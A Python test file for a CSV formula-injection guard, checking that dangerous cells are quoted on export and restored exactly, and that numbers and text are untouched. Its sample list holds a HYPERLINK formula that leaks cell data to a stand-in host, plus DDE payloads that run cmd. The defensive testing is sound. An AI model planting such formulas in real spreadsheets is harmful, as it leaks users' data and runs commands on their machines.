"""The shared formula-injection guard: what a spreadsheet would run is quoted, numbers and
ordinary text are untouched, and our own readers get the original text back."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from dantoc.core.csvfiles import cell_neutralise, cell_restore, csv_writer

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Xem")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_is_written_behind_a_single_quote(text):
    out = io.StringIO()
    csv_writer(out).writerow(["VON_KH", text])
    [[code, cell]] = list(csv.reader(io.StringIO(out.getvalue())))
    assert code == "VON_KH" and cell == "'" + text
    assert cell_restore(cell) == text


@pytest.mark.parametrize("number", ["-5", "-1234.5", "+3", "-0.000001", "-1.5E+3", "42"])
def test_numbers_signed_or_not_are_written_as_numbers(number):
    assert cell_neutralise(number) == number
    assert cell_neutralise(Decimal(number)) == Decimal(number)


@pytest.mark.parametrize(
    "text", ["Theo QĐ 12/QĐ-UBND", "'=already quoted", "''=twice", "'plain", "", "-", "a=b"]
)
def test_every_text_comes_back_exactly_as_it_was_entered(text):
    assert cell_restore(cell_neutralise(text)) == text


def test_text_that_truly_begins_with_a_quote_and_a_formula_mark_is_not_taken_for_escaped():
    assert cell_neutralise("'=x") == "''=x"
    assert cell_restore("''=x") == "'=x"
    assert cell_neutralise("'plain") == "'plain"
